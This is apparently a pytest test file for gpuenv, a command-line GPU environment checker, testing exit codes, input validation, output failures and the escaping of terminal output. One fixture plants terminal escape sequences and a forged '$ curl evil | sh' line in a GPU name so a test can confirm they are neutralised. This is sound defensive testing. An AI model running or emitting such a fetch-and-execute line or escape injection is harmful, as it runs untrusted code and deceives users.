"""The command line on bad input and awkward surroundings: a clear message and the documented exit
code (0 clean, 1 error findings, 2 gpuenv failed), never a traceback. In-process: every case here
reads a --from file or stops before probing, so nothing touches the machine."""

from __future__ import annotations

import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import gpuenv.api
import gpuenv.cli
from gpuenv.cli import main
from gpuenv.cli.options import detect_terminal
from gpuenv.facts import DriverFacts, LibraryFacts, missing, to_dict
from gpuenv.render.snapshot_text import render_snapshot
from gpuenv.snapshot_io import read_snapshot
from tests.builders import machine, torch_build
from tests.test_snapshot_io import full_snapshot


@pytest.fixture
def cpu_torch_on_a_3090(tmp_path: Path) -> Path:
    """A snapshot file on which the doctor finds an error (a CPU torch beside a usable GPU)."""
    snapshot = machine(
        gpus=["RTX 3090"], driver="535.183.01", frameworks=[torch_build("2.4.1+cpu", None)]
    )
    path = tmp_path / "snap.json"
    path.write_text(json.dumps(to_dict(snapshot)))
    return path


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A snapshot whose strings carry terminal escape sequences and line breaks."""
    data = to_dict(
        machine(gpus=["RTX 3090"], driver="535.183.01", frameworks=[torch_build("2.4.1", "12.1")])
    )
    data["gpus"][0]["name"] = "RTX \x1b]0;owned\x07\x1b[8mhidden 3090\n   $ curl evil | sh"
    data["python_env"]["frameworks"][0]["version"] = "2.4.1\x1b[2J"
    data["host"]["env"]["LD_LIBRARY_PATH"] = "/x\x1b[31m\u202e"
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data))
    return path


@pytest.mark.parametrize("value", ["0", "-5", "nan", "inf", "1e308", "abc"])
def test_a_timeout_that_is_not_a_positive_number_is_refused(
    value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as done:
        main(["snapshot", f"--timeout={value}"])
    assert done.value.code == 2
    assert "argument --timeout" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("flag", "message"),
    [
        ("--driver=", "is not a driver version"),
        ("--driver=0", "is not a driver version"),
        ("--driver=99999.1", "is not a driver version"),
        ("--driver=535.183.01.7", "is not a driver version"),
        ("--jetpack=", "is not in the knowledge base"),
        ("--platform=", "unknown platform"),
        ("--python-version=", "is not like 3.11"),
        ("--python-version=3.11.7.8", "is not like 3.11"),
    ],
)
def test_empty_or_impossible_what_if_values_are_errors_not_ignored(
    flag: str, message: str, cpu_torch_on_a_3090: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["doctor", "--from", str(cpu_torch_on_a_3090), flag]) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err


def test_driver_versions_as_nvidia_smi_prints_them_are_accepted(cpu_torch_on_a_3090: Path) -> None:
    for driver in ("535.183.01", "551.78", "535", "96.43.23"):
        assert main(["doctor", "--from", str(cpu_torch_on_a_3090), "--driver", driver]) == 1


def test_an_empty_python_path_is_an_error_not_the_default_interpreter(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["snapshot", "--python", ""]) == 2  # refused before anything is probed
    assert "--python is empty" in capsys.readouterr().err


def test_a_bug_is_exit_2_in_one_line_never_a_traceback(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def broken(_args: object) -> None:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(gpuenv.api, "load_target", broken)
    assert main(["doctor", "--json"]) == 2  # not 1, which means "error findings"
    out, err = capsys.readouterr()
    assert "[internal-error]" in err and "RecursionError" in err and "Traceback" not in err
    assert json.loads(out)["error"] == "internal-error"


@pytest.mark.parametrize(
    ("argv", "owner"),
    [
        (["doctor", "--bogus"], "gpuenv doctor"),
        (["plan", "torch", "--bogus"], "gpuenv plan"),
        (["kb", "show", "torch", "--bogus"], "gpuenv kb show"),
        (["diff", "a.lock", "b.lock"], "gpuenv diff"),
    ],
)
def test_an_unknown_argument_gets_the_usage_of_the_command_it_was_given_to(
    argv: list[str], owner: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as done:
        main(argv)
    err = capsys.readouterr().err
    assert done.value.code == 2
    assert err.startswith(f"usage: {owner} ") and f"{owner}: error: unrecognized arguments" in err


def test_ctrl_c_while_gpuenv_starts_is_exit_130_without_a_traceback(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupted() -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(gpuenv.cli, "build_parser", interrupted)
    try:
        code = main(["doctor"])
    except KeyboardInterrupt:  # escaping, it would stop pytest itself
        pytest.fail("Ctrl-C while starting escaped main()")
    assert code == 130
    assert capsys.readouterr().err == "gpuenv: interrupted\n"


def test_snapshot_o_dash_is_standard_output_not_a_file_named_dash(
    cpu_torch_on_a_3090: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["snapshot", "--from", str(cpu_torch_on_a_3090), "-o", "-"]) == 0
    assert json.loads(capsys.readouterr().out)["gpus"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["snap.json"]


@pytest.mark.parametrize(
    "argv",
    [["snapshot", "-o", ""], ["lock", "-o", ""], ["plan", "torch", "-o", "-"], ["plan", "-o", ""]],
)
def test_an_output_path_that_names_no_file_is_a_usage_error(
    argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """`-o ""` (an unset variable) was read as `.`; `plan -o -` made a folder named `-`."""
    with pytest.raises(SystemExit) as done:
        main(argv)
    assert done.value.code == 2
    assert f"usage: gpuenv {argv[0]}" in capsys.readouterr().err


class _Terminal(io.TextIOWrapper):
    def __init__(self, data: bytes) -> None:
        super().__init__(io.BytesIO(data), encoding="utf-8")

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(("quiet", "told"), [([], True), (["-q"], False)])
def test_explain_on_a_terminal_says_it_waits_for_a_paste(
    quiet: list[str],
    told: bool,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`gpuenv explain` alone reads standard input: on a terminal that looked like a hang."""
    pasted = b"AssertionError: Torch not compiled with CUDA enabled\n"
    monkeypatch.setattr("sys.stdin", _Terminal(pasted))
    assert main(["explain", "--no-probe", *quiet]) == 0
    err = capsys.readouterr().err
    assert ("paste the error message or log, then press Ctrl-D" in err) is told


@pytest.mark.parametrize(("argv", "probe_timeout"), [([], 10.0), (["--timeout", "2"], 2.0)])
def test_check_reads_the_env_within_a_short_timeout_too(
    argv: list[str], probe_timeout: float, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`check --timeout 2` on a hung interpreter waited 30 s (3 x the default 10) to read it."""
    asked: list[float] = []

    def snapshot(**options: Any) -> None:
        asked.append(options["timeout"])
        raise gpuenv.api.GpuenvError("target-unreadable", "it hangs")

    monkeypatch.setattr(gpuenv.api, "take_snapshot", snapshot)
    assert main(["check", "--python", "/env/bin/python", *argv]) == 2
    assert asked == [probe_timeout]


class _ClosedPipe(io.StringIO):
    def write(self, text: str) -> int:
        raise BrokenPipeError(32, "Broken pipe")


class _FullDisk(io.StringIO):
    def write(self, text: str) -> int:
        raise OSError(28, "No space left on device")


def test_a_reader_that_goes_away_keeps_the_doctor_exit_code(
    cpu_torch_on_a_3090: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdout", _ClosedPipe())  # `gpuenv doctor | head -1`
    assert main(["doctor", "--from", str(cpu_torch_on_a_3090)]) == 1


def test_output_that_cannot_be_written_is_exit_2_with_the_reason(
    cpu_torch_on_a_3090: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdout", _FullDisk())  # `gpuenv doctor --json > /dev/full`
    assert main(["doctor", "--json", "--from", str(cpu_torch_on_a_3090)]) == 2
    assert "cannot write the output: No space left on device" in capsys.readouterr().err


def test_an_error_told_as_json_still_reaches_stderr_when_stdout_is_full(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdout", _FullDisk())
    assert main(["doctor", "--json", "--from", str(tmp_path / "nothere.json")]) == 2
    assert "nothere.json does not exist" in capsys.readouterr().err


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("choice", "env", "tty", "colour"),
    [
        ("auto", {}, True, True),
        ("auto", {"NO_COLOR": ""}, True, True),  # set to nothing: does not count (no-color.org)
        ("auto", {"NO_COLOR": "1"}, True, False),
        ("auto", {"TERM": "dumb"}, True, False),
        ("auto", {}, False, False),
        ("auto", {"FORCE_COLOR": "1"}, False, True),
        ("auto", {"FORCE_COLOR": "1", "NO_COLOR": "1"}, True, False),
        ("always", {"NO_COLOR": "1"}, False, True),
        ("never", {"FORCE_COLOR": "1"}, True, False),
    ],
)
def test_colour_follows_the_flag_no_color_force_color_and_the_terminal(
    choice: str, env: dict[str, str], tty: bool, colour: bool
) -> None:
    stream = _Tty() if tty else io.StringIO()
    assert detect_terminal(stream, choice, env).colour is colour


@pytest.mark.parametrize(
    "command", [["doctor"], ["doctor", "--markdown"], ["snapshot"]], ids=" ".join
)
def test_escape_sequences_in_a_snapshot_file_never_reach_the_terminal(
    command: list[str], hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*command, "--from", str(hostile)]) in (0, 1)
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b" in out  # shown, escaped
    assert "\n   $ curl" not in out  # a line break in a name cannot forge a fix command


def test_colour_codes_are_still_written_for_a_terminal(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["doctor", "--color", "always", "--from", str(hostile)])
    out = capsys.readouterr().out
    assert "\x1b[1m" in out and "\x1b]0;" not in out and "\x1b[8m" not in out


def test_snapshot_text_shows_library_problems_and_the_pci_scan() -> None:
    broken = LibraryFacts("libcudart.so.12", "/l/libcudart.so.12", "LD_LIBRARY_PATH", load_rank=-1,
                          problem="broken symlink (dangling or a loop)")  # fmt: skip
    text = render_snapshot(replace(full_snapshot(), libraries=(broken,)))
    [line] = [line for line in text.splitlines() if "libcudart" in line]
    assert "problem: broken symlink" in line and "shadowed" not in line
    assert "PCI bus: NVIDIA device 0x2204" in text
    assert "PCI bus: no NVIDIA GPU" in render_snapshot(replace(full_snapshot(), pci_gpus=()))


def test_missing_driver_sources_are_named_in_the_snapshot_text() -> None:
    lost = DriverFacts(
        versions=(missing("kernel-module:/sys/module/nvidia/version", "not found"),
                  missing("kernel-module:/proc/driver/nvidia/version", "not found")),
    )  # fmt: skip
    text = render_snapshot(replace(full_snapshot(), driver=lost))
    assert "driver: - (not found)  [kernel-module:/sys/module/nvidia/version]" in text
    assert "driver: - (not found)  [kernel-module:/proc/driver/nvidia/version]" in text


def test_a_snapshot_saved_as_utf16_by_powershell_is_read(tmp_path: Path) -> None:
    path = tmp_path / "snap.json"
    text = json.dumps(to_dict(full_snapshot()))
    path.write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
    assert read_snapshot(path).gpus[0].compute_capability == "8.6"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    assert read_snapshot(path).gpus[0].compute_capability == "8.6"


def test_a_failed_write_leaves_neither_the_file_nor_a_temporary_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import os

    from gpuenv.edges.output import write_file
    from gpuenv.errors import GpuenvError

    def refuse(*_args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(GpuenvError, match="No space left on device"):
        write_file(tmp_path / "snap.json", "{}")
    assert list(tmp_path.iterdir()) == []


def test_a_declared_driver_on_a_wsl_snapshot_is_read_with_windows_numbers(tmp_path: Path) -> None:
    from gpuenv.facts import Observation
    from gpuenv.kb import default_kb
    from gpuenv.whatif import WhatIf, apply_what_if

    base = machine(gpus=["RTX 3090"], driver="535.183.01")
    wsl = replace(base, host=replace(base.host, wsl=Observation(True, "/proc/version")))
    snapshot = apply_what_if(wsl, WhatIf(driver="566.36"), default_kb())
    assert [o.value for o in snapshot.driver.max_cuda] == ["12.7"]


@pytest.mark.real
@pytest.mark.parametrize(("verbosity", "told"), [(0, True), (-1, False)])
def test_a_slow_command_is_named_while_gpuenv_waits_for_it(
    verbosity: int, told: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hung nvidia-smi answers only at its deadline: a person at a terminal is told what
    gpuenv waits for instead of looking at silence (not with -q)."""
    import sys

    from gpuenv.cli.options import Ui
    from gpuenv.cli.waiting import waiting_notes
    from gpuenv.edges import process
    from gpuenv.render.terminal import Terminal

    stderr = _Tty()
    monkeypatch.setattr(sys, "stderr", stderr)
    slow = [sys.executable, "-c", "import time; time.sleep(1.5)"]
    with waiting_notes(Ui(Terminal(), verbosity), first=0.3, every=30):
        assert process.run(slow, timeout=30).returncode == 0
    named = "gpuenv: still waiting for " + Path(sys.executable).name
    assert (named in stderr.getvalue()) is told
